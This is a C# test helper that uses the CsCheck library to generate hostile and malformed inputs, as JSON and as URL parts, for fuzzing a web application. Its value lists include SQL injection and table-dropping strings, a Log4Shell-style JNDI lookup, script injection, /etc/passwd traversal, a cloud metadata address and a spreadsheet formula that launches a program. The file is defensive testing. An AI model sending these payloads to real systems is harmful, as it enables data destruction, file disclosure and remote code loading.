using System.Text;
using CsCheck;

namespace Dozen.Web.Tests.Walks;

/// <summary>What a careless or hostile program sends: as JSON text, so that it may be broken, and as parts of an address.</summary>
internal static class HostileValues
{
    /// <summary>Stands for personal data: it must never turn up in a log.</summary>
    public const string Secret = "private.person.4711@blueanchor.example";

    private const int TooDeep = 200;

    private static readonly string[] Texts =
    [
        "", " ", "a", Secret, "Ada Lovelace " + Secret, "new", "contacted", "google_maps", "vip", "me", "none", "true", "null", "1", "-1", "0", "99999999999999999999",
        "\0", "a\0b", "\ud800", "\udc00x", "\ufeff", "\u202eabc", "é́", "漢字", "🦊", new('x', 300), new('é', 5_000),
        "' OR 1=1 --", "'; DROP TABLE leads; --", "\"; SELECT pg_sleep(10); --", "%", "_%_", "\\", "{{7*7}}", "${jndi:ldap://x.example/a}", "<script>alert(1)</script>",
        "../../etc/passwd", "http://169.254.169.254/latest", "javascript:alert(1)", "file:///etc/passwd", "https://a.example/" + "p/", "=cmd|' /C calc'!A0", "+1 555 0100", "@x",
        "2026-02-30", "0000-00-00", "2026-02-28", "9999-12-31T23:59:60Z", "2026-03-01T12:00:00Z", "-2026-03-01T12:00:00+99:00", "1e5", "0x10", "NaN", "Infinity", "[]", "{}",
    ];

    private static readonly string[] Numbers =
    [
        "0", "-0", "1", "-1", "2", "42", "100", "101", "2147483647", "2147483648", "-2147483649", "9223372036854775807", "9223372036854775808",
        "-9223372036854775809", "0.5", "1e2", "1e308", "1e309", "-1e400", "123456789012345678901234567890", "0.1234567890123456789",
    ];

    private static readonly string[] Odd =
        ["null", "true", "false", "{}", "[]", "[null]", "[[]]", "{\"\":1}", "{\"a\":{\"b\":[1,\"x\",null]}}", "{\"a\":1,\"a\":2}", "{\"$ref\":\"#\"}", "NaN", "01", "'x'", "\"\\x\"", "\"\\ud800\"", "\"\\u0000\""];

    public static readonly Gen<string> Text = OneOf(Texts);

    /// <summary>A JSON value, or something that is none.</summary>
    public static readonly Gen<string> Json = Gen.Frequency(
        (6, Text.Select(Quoted)),
        (4, OneOf(Numbers)),
        (3, OneOf(Odd)),
        (1, Gen.Const(new string('[', TooDeep) + new string(']', TooDeep))),
        (1, OneOf(Texts).Array[0, 4].Select(texts => "[" + string.Join(",", texts.Select(Quoted)) + "]")));

    /// <summary>Escaped for an address; half a character becomes the bytes it would have.</summary>
    public static readonly Gen<string> Address = Gen.Frequency(
        (6, Text.Select(Escaped)), (3, OneOf(Numbers)), (1, OneOf(["%00", "%ED%A0%80", "%C3%28", "%", "%zz", "a%2Fb", "..%2f.."])));

    private static Gen<string> OneOf(string[] values) => Gen.Int[0, values.Length - 1].Select(i => values[i]);

    public static string Quoted(string text)
    {
        var quoted = new StringBuilder("\"");
        foreach (var c in text)
        {
            if (c is '"' or '\\') quoted.Append('\\').Append(c);
            else if (c < ' ' || char.IsSurrogate(c)) quoted.Append(System.Globalization.CultureInfo.InvariantCulture, $"\\u{(int)c:x4}");
            else quoted.Append(c);
        }

        return quoted.Append('"').ToString();
    }

    private static string Escaped(string text) => string.Concat(text.Select(c => char.IsSurrogate(c) ? "%ED%A0%80" : Uri.EscapeDataString(c.ToString())));
}
